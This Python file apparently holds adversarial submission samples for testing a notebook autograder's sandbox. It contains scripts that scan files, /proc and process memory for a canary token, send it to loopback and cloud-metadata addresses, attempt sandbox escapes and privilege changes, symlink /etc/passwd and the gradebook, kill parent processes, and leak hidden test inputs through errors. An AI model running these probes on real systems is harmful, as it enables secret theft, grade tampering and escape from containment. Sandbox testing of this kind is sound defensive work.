"""Sources that look for what is not theirs, and for a way out of the jail."""

from .broken import JAILED
from .lab import MARK

RIGHT = "def scale(x): return 3 * x"
# What a thief does: look through bytes for the canary and others' words, say what was
# found.  Its own word is found too, which shows that the search works.
SEARCH = f"""
import os, re
mine, found = "@TOKEN@", set()
def look(data):
    data = data if isinstance(data, bytes) else str(data).encode("utf-8", "replace")
    found.update(re.findall(rb"{MARK}", data))
def read(path, size=1 << 20):
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        try: look(os.read(fd, size))
        finally: os.close(fd)
    except OSError: pass
def tell():
    return f"found {{len(found)}}: {{sorted(found)}}"
"""
FOUND = r"found [1-9]\d*:"
WALK = f"""{SEARCH}
open("/tmp/own.ipynb", "w").write(mine)
for top in ["/tmp", "/", "@ROOT@", "@COURSE@", "/root", "/home", "/dev/shm", "/var"]:
    for folder, inner, files in os.walk(top):
        left_out = ("proc", "sys", "usr", "lib", "lib64", "bin", ".venv")
        inner[:] = [d for d in inner if d not in left_out]
        for name in files:
            if name.endswith((".ipynb", ".db", ".json", ".py", ".csv", ".html")):
                read(os.path.join(folder, name))
for place in ("", "@COURSE@/", "../", "../../"):
    read(place + "source/01_zoo/01_zoo.ipynb"); read(place + "gradebook.db", 1 << 24)
print(tell())
{RIGHT}
"""
PROC = f"""{SEARCH}
open("/tmp/own", "w").write(mine)
fd = os.open("/tmp/own", os.O_RDONLY)
read("/tmp/own")
for pid in [*map(str, range(1, 300)), "self", "thread-self"]:
    for part in ("environ", "cmdline", "maps", "mounts", "cgroup", "status", "stack"):
        read(f"/proc/{{pid}}/{{part}}")
    for part in ("root/tmp/own", "cwd/own", "root@COURSE@/gradebook.db"):
        read(f"/proc/{{pid}}/{{part}}")
    try:
        for n in os.listdir(f"/proc/{{pid}}/fd"):
            read(f"/proc/{{pid}}/fd/{{n}}")
            look(os.readlink(f"/proc/{{pid}}/fd/{{n}}"))
    except OSError: pass
print(tell(), os.environ)
{RIGHT}
"""
MEMORY = f"""{SEARCH}
import gc, sys
kept = mine + " in memory"
def scan(pid):
    with open(f"/proc/{{pid}}/mem", "rb", 0) as memory:
        for line in open(f"/proc/{{pid}}/maps"):
            span, rights, *_ = line.split()
            a, b = (int(x, 16) for x in span.split("-"))
            if rights.startswith("rw") and b - a < 1 << 28:
                try: memory.seek(a); look(memory.read(b - a))
                except (OSError, ValueError, OverflowError): pass
for pid in [*map(str, range(1, 300)), "self"]:
    try: scan(pid)
    except OSError: pass
for thing in gc.get_objects():
    if isinstance(thing, (dict, list, tuple)) and len(thing) < 10**5:
        for x in (thing.values() if isinstance(thing, dict) else thing):
            if isinstance(x, (str, bytes)): look(x)
def scale(x): raise ValueError(tell())
"""
FRAMES = f"""{SEARCH}
import sys
def scale(x):
    frame = sys._getframe()
    while frame:
        for space in (frame.f_locals, frame.f_globals):
            for v in list(space.values()):
                try: look(repr(v)[:10**6])
                except Exception: pass
        frame = frame.f_back
    for module in list(sys.modules.values()):
        look(repr(getattr(module, "__dict__", ""))[:10**5])
    raise ValueError(tell())
kept = mine
"""
RETURNED = f"""{SEARCH}
import gc
def parts(n):
    look(mine)
    for thing in gc.get_objects():
        if isinstance(thing, dict) and len(thing) < 10**4:
            for x in list(thing.values()):
                if isinstance(x, (str, bytes)): look(x)
    return [tell()]
"""
NETWORK = f"""
import socket
reached = []
def reach(kind, address, form=socket.AF_INET):
    try:
        with socket.socket(form, kind) as s:
            s.settimeout(0.5)
            s.connect(address); s.send(b"@TOKEN@"); reached.append(address)
    except OSError as e: print(type(e).__name__)
for host in ("127.0.0.1", "10.0.2.2", "172.17.0.1", "169.254.169.254", "192.0.2.1"):
    reach(socket.SOCK_STREAM, (host, @PORT@))
reach(socket.SOCK_STREAM, ("::1", @PORT@), socket.AF_INET6)
reach(socket.SOCK_STREAM, "\\0@UNIX@", socket.AF_UNIX)
try: socket.sendmsg(socket.socket(socket.AF_INET, socket.SOCK_DGRAM), [b"x"])
except Exception: pass
try: socket.getaddrinfo("example.com", 80)
except OSError as e: print("no name:", type(e).__name__)
try: lines = open("/proc/net/unix").readlines()
except OSError: lines = []
names = [s.split("@")[-1].strip() for s in lines if "@" in s]
for name in names: reach(socket.SOCK_STREAM, "\\0" + name, socket.AF_UNIX)
print("talked to", reached, "of", names)
{RIGHT}
"""
SECRETS = "seen = []\ndef scale(x):\n    seen.append(x); print(x)\n    return 3 * x"
RAISES = """
def scale(x):
    if x > 10**6: raise ValueError(f"it was {x}")
    return 3 * x
"""
RETURNS = """
def scale(x):  # of two numbers an assert cannot say whether they are true
    return 3 * x if x < 10**6 else np.array([x, x])
"""
ESCAPE = f"""{JAILED}
import ctypes, resource, socket
libc, done = ctypes.CDLL(None, use_errno=True), []
def attempt(name, act):
    try:
        if act() not in (-1, None): done.append(name)
    except Exception as e: print(name, type(e).__name__)
attempt("mount", lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
attempt("user namespace", lambda: libc.unshare(0x10000000))
attempt("mount namespace", lambda: libc.unshare(0x20000))
attempt("chroot", lambda: os.chroot("/tmp") or True)
attempt("root", lambda: os.setuid(0) or True)
attempt("device", lambda: os.mknod("/tmp/disk", 0o60600, os.makedev(8, 0)) or True)
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("name", lambda: socket.sethostname("zoo") or True)
attempt("memory", lambda: os.open("/dev/mem", 0) + 1)
attempt("limit", lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1)) or True)
attempt("nice", lambda: os.nice(-5) or True)
print("escaped by", done)
{RIGHT}
"""
WRITES = f"""
import os, pathlib
wrote = []
for top in ("@COURSE@", "@ROOT@", "/", "/usr", "/var/tmp", "/root", "/dev", "/etc"):
    for name in ("gradebook.db", "@TOKEN@"):
        try:
            os.makedirs(top, exist_ok=True)
            (pathlib.Path(top) / name).write_text("@TOKEN@"); wrote.append(top)
        except OSError: pass
for name in ("/tmp/@TOKEN@", "/dev/shm/@TOKEN@"):
    pathlib.Path(name).write_text("mine")
print("wrote", wrote)
{RIGHT}
"""
LINKS = f"""
import os
for n, target in enumerate(("@COURSE@/gradebook.db", "/proc/1/root", "/etc/passwd")):
    os.symlink(target, f"/tmp/link-{{n}}")
    for act in (lambda: print(open(f"/tmp/link-{{n}}").read()),
                lambda: os.link(target, f"/tmp/hard-{{n}}")):
        try: act()
        except OSError as e: print(type(e).__name__)
for n in range(1, 6):
    os.remove(f"/tmp/.kernel-{{n}}")
    os.symlink("@COURSE@/gradebook.db", f"/tmp/.kernel-{{n}}")
{RIGHT}
"""
LITTER = f"""
import ipykernel, os
here = os.path.dirname(ipykernel.get_connection_file())
try: os.symlink("@COURSE@", here + "/@TOKEN@")
except OSError as e: print("refused", e.strerror)
{RIGHT}
"""
SIGNALS = f"""{JAILED}
import signal
for pid in (os.getppid(), 1, -os.getppid()):
    for sent in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        if pid not in (0, -1):
            try: os.kill(pid, sent)
            except OSError as e: print(type(e).__name__)
{RIGHT}
"""

# What a hidden part calls scale with is noted, and told wherever there is a way.
NOTES = """
seen = []
def scale(x):
    seen.append(int(x)); globals()["steps"] = max(seen)
    return 3 * x
"""
TELLS = {
    "error": """
def tally(xs): raise ValueError(f"told {seen}")
""",
    "string": """
def parts(n): return [f"told {seen}"]
""",
    "type": """
def tally(xs): return [type(f"Told{max(seen)}", (), {})()]
""",
    "class": """
def tally(xs): raise type(f"Told{max(seen)}", (ValueError,), {})("no")
""",
    "repr": """
class Told(Exception):
    __repr__ = __str__ = lambda self: f"told {seen}"
def parts(n): raise Told()
def tally(xs): return {Told.__str__(Told()): 1}
""",
    "digits": """
def root(x):
    if x < 0: raise ValueError
    return max(seen) + 0.5
def tally(xs): return {max(seen): len(seen)}
""",
}
# The same within a hidden part: it fails, and would say why.
TELLS_THERE = {
    "raises": "raise ValueError(f'told {x}')",
    "raises-type": "raise type(f'Told{x}', (ValueError,), {})(x)",
    "returns-type": "return type(f'Told{x}', (list,), {})([x, x])",
    "returns-string": "return f'told {x}'",
    "exits": "raise SystemExit(f'told {x}')",
    "prints": "print('told', x, flush=True); import os; os.write(2, str(x).encode())",
    "ends": "import os; os._exit(x % 256)",
    "waits": "import time; time.sleep(1000)",
}
